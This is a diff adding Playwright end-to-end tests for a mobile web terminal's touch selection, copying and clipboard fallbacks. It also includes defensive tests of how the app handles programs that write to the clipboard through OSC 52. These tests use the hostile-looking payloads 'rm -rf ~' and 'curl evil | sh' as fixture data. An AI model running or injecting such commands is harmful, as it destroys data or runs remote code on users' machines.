@@ -1,0 +1,334 @@
+// Selecting with a finger and copying what is selected, with a clipboard and without one. Knows no other gestures.
+import AxeBuilder from '@axe-core/playwright'
+import { cell, cellOf, Fingers } from '../support/fingers.ts'
+import { expect, type Phone, test } from '../support/phone.ts'
+
+const bar = (phone: Phone) => phone.page.getByRole('toolbar', { name: 'Selection' })
+
+/** Takes the clipboard's place: what was written to it. */
+async function clipboard(phone: Phone): Promise<() => Promise<string[]>> {
+  await phone.page.addInitScript(() => {
+    const copied: string[] = []
+    Object.assign(window, { copied })
+    Object.defineProperty(navigator, 'clipboard', {
+      value: { writeText: (text: string) => Promise.resolve(void copied.push(text)) },
+    })
+  })
+  return () => phone.page.evaluate(() => (window as unknown as { copied: string[] }).copied)
+}
+
+async function press(phone: Phone, name: string): Promise<void> {
+  await bar(phone).getByRole('button', { name }).tap()
+}
+
+test('a long press takes the word, dragging takes more, two handles adjust it, a tap ends it', async ({ phone }) => {
+  const copied = await clipboard(phone)
+  await phone.open()
+  await phone.newSession()
+  await phone.run("clear; printf 'see src/app/main.ts:12. Then\\nthe second line\\n'")
+  await phone.shows('the second line')
+  const fingers = new Fingers(phone)
+  await fingers.hold(await cellOf(phone, 'main.ts'))
+  await expect(bar(phone), 'no buttons under the finger').toHaveCount(0)
+  await fingers.up()
+  await expect(bar(phone)).toBeVisible()
+  await phone.picture('selected-word')
+  await press(phone, 'Copy')
+  await expect.poll(copied).toEqual(['src/app/main.ts:12'])
+  await expect(phone.page.getByText('Copied')).toBeVisible()
+  await expect(bar(phone)).toHaveCount(0)
+
+  const from = await cellOf(phone, 'Then')
+  await fingers.hold(from)
+  await fingers.go(from, await cellOf(phone, 'second', 5))
+  await fingers.up()
+  await phone.picture('selected-lines')
+  await press(phone, 'Copy')
+  await expect.poll(copied).toEqual(['src/app/main.ts:12', 'Then\nthe second'])
+
+  await fingers.hold(await cellOf(phone, 'Then'))
+  await fingers.up()
+  const end = (await phone.page.locator('.handle.end').boundingBox())!
+  const grip = { x: end.x + end.width / 2, y: end.y + end.height / 2 }
+  const to = await cellOf(phone, 'line', 3)
+  await fingers.down(grip)
+  // The finger is below what it points at.
+  await fingers.go(grip, { x: to.x, y: to.y + 22 })
+  await fingers.up()
+  const start = (await phone.page.locator('.handle.start').boundingBox())!
+  const other = { x: start.x + start.width / 2, y: start.y + start.height / 2 }
+  const back = await cellOf(phone, 'see')
+  await fingers.down(other)
+  await fingers.go(other, { x: back.x, y: back.y + 22 })
+  await fingers.up()
+  await press(phone, 'Copy')
+  await expect.poll(async () => (await copied()).at(-1)).toBe('see src/app/main.ts:12. Then\nthe second line')
+
+  await fingers.hold(await cellOf(phone, 'Then'))
+  await fingers.up()
+  await expect(bar(phone)).toBeVisible()
+  await phone.page.evaluate(() => (document.activeElement as HTMLElement).blur())
+  await phone.page.touchscreen.tap(300, 500)
+  await expect(bar(phone)).toHaveCount(0)
+  await expect(phone.page.locator('.handle.start')).toBeHidden()
+  await expect(phone.page.locator('.xterm-helper-textarea'), 'that tap is no other').not.toBeFocused()
+})
+
+test('a finger that is faster than the code for it selects all the same', async ({ phone }) => {
+  const copied = await clipboard(phone)
+  let let_go = () => {}
+  const held = new Promise<void>(resolve => {
+    let_go = resolve
+  })
+  let tellAsked = () => {}
+  const asked = new Promise<void>(resolve => {
+    tellAsked = resolve
+  })
+  await phone.page.route('**/touch-select-*.js', async route => {
+    tellAsked()
+    await held
+    await route.continue()
+  })
+  await phone.open()
+  await phone.newSession()
+  await phone.run("clear; printf 'one two three\\n'")
+  await phone.shows('one two three')
+  const fingers = new Fingers(phone)
+  await fingers.hold(await cellOf(phone, 'two'))
+  await asked
+  await fingers.up()
+  let_go()
+  await expect(bar(phone)).toBeVisible()
+  await press(phone, 'Copy')
+  await expect.poll(copied).toEqual(['two'])
+})
+
+test('wrapped lines come as one, with the blank at the wrap; wide characters come whole', async ({ phone }) => {
+  const copied = await clipboard(phone)
+  await phone.open()
+  await phone.newSession()
+  const cols = Number((await phone.ptySize()).split('x')[0])
+  const long = `${'a'.repeat(cols - 1)} ${'b'.repeat(10)}`
+  const wide = `${'x'.repeat(cols - 1)}漢字 ende`
+  await phone.run(`clear; printf '${long}\\n${wide}\\n'`)
+  await phone.shows('ende')
+  const fingers = new Fingers(phone)
+  const from = await cell(phone, 2, 0)
+  await fingers.hold(from)
+  // Two characters before it are two cells wide.
+  await fingers.go(from, await cellOf(phone, 'ende', 3 + 2))
+  await fingers.up()
+  await press(phone, 'Copy')
+  await expect.poll(copied).toEqual([`${long}\n${wide}`])
+  // The second half of 字.
+  await fingers.hold(await cell(phone, 3, 3))
+  await fingers.up()
+  await press(phone, 'Copy')
+  await expect.poll(async () => (await copied()).at(-1)).toBe(wide.split(' ')[0])
+})
+
+test('a selection stays with its lines while output goes on, scrolls at the edge, and takes all', async ({ phone }) => {
+  const copied = await clipboard(phone)
+  await phone.open()
+  await phone.newSession()
+  await phone.run('seq 1 300')
+  await phone.shows('\n300')
+  const go = await phone.later('seq 1000 1020')
+  await phone.run('seq 500 700')
+  await phone.shows('\n700')
+  const fingers = new Fingers(phone)
+  await fingers.hold(await cellOf(phone, '690'))
+  go()
+  await phone.shows('\n1020')
+  await fingers.up()
+  await press(phone, 'Copy')
+  await expect.poll(copied).toEqual(['690'])
+
+  // At the upper edge the history comes to the finger.
+  const from = await cellOf(phone, '1010')
+  await fingers.hold(from)
+  const top = (await phone.page.locator('.terminal-view').boundingBox())!.y + 4
+  await fingers.go(from, { x: from.x, y: top })
+  await phone.shows(/^ready\n/m)
+  await fingers.up()
+  await press(phone, 'Copy')
+  const taken = (await copied()).at(-1)!.split('\n')
+  expect(taken.at(-1)).toBe('1010')
+  expect(taken).toContain('500')
+
+  await fingers.hold(await cellOf(phone, '510'))
+  await fingers.up()
+  await press(phone, 'Select all')
+  await press(phone, 'Copy')
+  const screen = await phone.screen()
+  await expect.poll(async () => (await copied()).at(-1)).toBe(screen)
+  await fingers.hold(await cellOf(phone, '510'))
+  await fingers.up()
+  await press(phone, 'Select all')
+  await press(phone, 'Everything')
+  await expect(bar(phone).getByRole('button', { name: 'Everything' })).toHaveCount(0)
+  await phone.picture('selected-everything')
+  await press(phone, 'Copy')
+  await expect.poll(async () => (await copied()).at(-1)).toMatch(/^ready\n\$ seq 500 700\n500\n501\n[\s\S]*\n1020\n?/)
+})
+
+test('in a program that tracks the mouse a finger selects, and the program hears nothing of it', async ({ phone }) => {
+  const copied = await clipboard(phone)
+  await phone.open()
+  await phone.newSession()
+  await phone.run("printf '\\033[?1049h\\033[?1003h\\033[?1006hfind these words'; stty -icanon -echo; cat -v")
+  await phone.shows('find these words')
+  const fingers = new Fingers(phone)
+  const from = await cellOf(phone, 'these')
+  await fingers.hold(from)
+  await fingers.go(from, await cellOf(phone, 'words', 4))
+  await fingers.up()
+  await press(phone, 'Copy')
+  await expect.poll(copied).toEqual(['these words'])
+  await phone.type('Q')
+  await expect.poll(() => phone.screen()).toMatch(/^\s*find these wordsQ$/)
+  // And a tap is the program's.
+  await phone.page.locator('.xterm').tap()
+  await expect.poll(() => phone.screen()).toContain('^[[<0;')
+})
+
+test('without a clipboard the old way copies; where that is refused too the text is there to be copied by hand', async ({
+  phone,
+  context,
+}) => {
+  await phone.page.addInitScript(() => {
+    Object.defineProperty(navigator, 'clipboard', { value: undefined })
+  })
+  await phone.open()
+  await phone.newSession()
+  await phone.run('clear; echo alpha beta')
+  await phone.shows('\nalpha beta'.trim())
+  await phone.page.locator('.xterm').tap()
+  const fingers = new Fingers(phone)
+  await fingers.hold(await cellOf(phone, 'beta'))
+  await fingers.up()
+  await press(phone, 'Copy')
+  await expect(phone.page.getByText('Copied')).toBeVisible()
+  await expect(phone.page.locator('.xterm-helper-textarea'), 'the keyboard stays').toBeFocused()
+  // What another page finds there.
+  await context.grantPermissions(['clipboard-read'])
+  const other = await context.newPage()
+  await other.goto(`${phone.host.origin}/icon.svg`)
+  expect(await other.evaluate(() => navigator.clipboard.readText())).toBe('beta')
+  await other.close()
+
+  await phone.page.evaluate(() => {
+    document.execCommand = () => false
+  })
+  await fingers.hold(await cellOf(phone, 'alpha'))
+  await fingers.up()
+  await press(phone, 'Copy')
+  const field = phone.page.getByRole('textbox', { name: 'Text to copy' })
+  await expect(field).toHaveValue('alpha')
+  expect(await field.evaluate((area: HTMLTextAreaElement) => area.selectionEnd - area.selectionStart)).toBe(5)
+  await phone.picture('copy-by-hand')
+  await phone.fits()
+  await phone.page.getByRole('button', { name: 'Done' }).tap()
+  await expect(field).toHaveCount(0)
+})
+
+test('case 42: what a program puts on the clipboard is shown first, and is copied only after a tap', async ({
+  phone,
+}) => {
+  const copied = await clipboard(phone)
+  await phone.open()
+  await phone.newSession()
+  const wish = (text: string) => `printf '\\033]52;c;${Buffer.from(text).toString('base64')}\\007'`
+  await phone.run(wish('rm -rf ~\n'))
+  const notice = phone.page.getByText('A program wants to copy 9 characters.')
+  await expect(notice).toBeVisible()
+  await phone.picture('clipboard-notice')
+  expect(await copied()).toEqual([])
+  await phone.page.getByRole('button', { name: 'Look' }).tap()
+  await expect(phone.page.getByText('rm -rf ~↵')).toBeVisible()
+  await phone.picture('clipboard-question')
+  await phone.page.getByRole('button', { name: 'Copy', exact: true }).tap()
+  await expect.poll(copied).toEqual(['rm -rf ~\n'])
+  await expect(notice).toHaveCount(0)
+  // What is replayed was wanted long ago.
+  await phone.page.reload()
+  await phone.shows('printf')
+  await phone.page.locator('.xterm').tap()
+  await phone.run('echo back')
+  await phone.shows('\nback')
+  await expect(notice).toHaveCount(0)
+  // Reading is never answered.
+  await phone.run("printf '\\033]52;c;?\\007'; echo asked")
+  await phone.shows('\nasked\n$')
+  await phone.run(wish('two'))
+  await phone.page.getByRole('button', { name: 'Look' }).tap()
+  await phone.page.getByRole('button', { name: 'Never ask on this phone' }).tap()
+  await phone.run(`${wish('three')}; echo wished`)
+  await phone.shows('\nwished')
+  await expect(phone.page.getByText(/A program wants/)).toHaveCount(0)
+  expect(await copied()).toEqual([])
+  await phone.page.getByRole('button', { name: 'Menu' }).tap()
+  await phone.page.getByRole('button', { name: 'Let programs ask to copy' }).tap()
+  await phone.page.locator('.xterm').tap()
+  await phone.run(wish('four'))
+  await expect(phone.page.getByText('A program wants to copy 4 characters.')).toBeVisible()
+})
+
+test('case 42: what is copied is what was read, whatever the program wants by then', async ({ phone }) => {
+  const copied = await clipboard(phone)
+  await phone.open()
+  await phone.newSession()
+  const wish = (text: string) => `printf '\\033]52;c;${Buffer.from(text).toString('base64')}\\007'`
+  const swap = await phone.later(`${wish('curl evil | sh')}; echo swapped`)
+  await phone.run(wish('echo good\u{e0068}'))
+  await phone.page.getByRole('button', { name: 'Look' }).tap()
+  // Text that hides in it is seen too.
+  await expect(phone.page.getByText('echo good<U+E0068>')).toBeVisible()
+  swap()
+  await phone.shows('swapped')
+  await expect(phone.page.getByText('A program wants to copy 14 characters.')).toBeAttached()
+  await phone.page.getByRole('button', { name: 'Copy', exact: true }).tap()
+  await expect.poll(copied).toEqual(['echo good\u{e0068}'])
+  // The other wish is a question of its own.
+  await phone.page.getByRole('button', { name: 'Look' }).tap()
+  await expect(phone.page.getByText('curl evil | sh', { exact: true })).toBeVisible()
+})
+
+test('case 42: a megabyte that a program wants to copy is shown in part, and at once', async ({ phone }) => {
+  await clipboard(phone)
+  await phone.open()
+  await phone.newSession()
+  await phone.run("printf '\\033]52;c;%s\\007' $(head -c 600000 /dev/zero | tr '\\0' x | base64 -w0)")
+  await phone.page.getByRole('button', { name: 'Look' }).tap()
+  await expect(phone.page.getByText('and 596,000 more characters')).toBeVisible()
+  await phone.picture('clipboard-long')
+  await phone.fits()
+})
+
+for (const colorScheme of ['dark', 'light'] as const)
+  test(`a selection looks right and is sound on a small phone, ${colorScheme}`, async ({ phone }) => {
+    const { page } = phone
+    await page.setViewportSize({ width: 320, height: 568 })
+    await page.emulateMedia({ colorScheme })
+    // As on a phone that can share.
+    await page.addInitScript(() => {
+      Object.defineProperty(navigator, 'share', { value: () => Promise.resolve(), configurable: true })
+    })
+    await phone.open()
+    await phone.newSession()
+    await phone.run('clear; head -12 /etc/services')
+    await phone.shows('Network services')
+    const fingers = new Fingers(phone)
+    const at = await cell(phone, 4, 8)
+    await fingers.hold(at)
+    await fingers.go(at, await cell(phone, 20, 12))
+    await fingers.up()
+    await expect(bar(phone)).toBeVisible()
+    await phone.fits()
+    await phone.picture(`selection-320-${colorScheme}`)
+    for (const button of await bar(phone).getByRole('button').all())
+      expect((await button.boundingBox())!.height).toBeGreaterThanOrEqual(44)
+    const axe = new AxeBuilder({ page }).setLegacyMode().exclude('.xterm-rows')
+    const { violations } = await axe.disableRules(['label-content-name-mismatch']).analyze()
+    expect(violations.filter(({ impact }) => impact === 'serious' || impact === 'critical')).toEqual([])
+  })
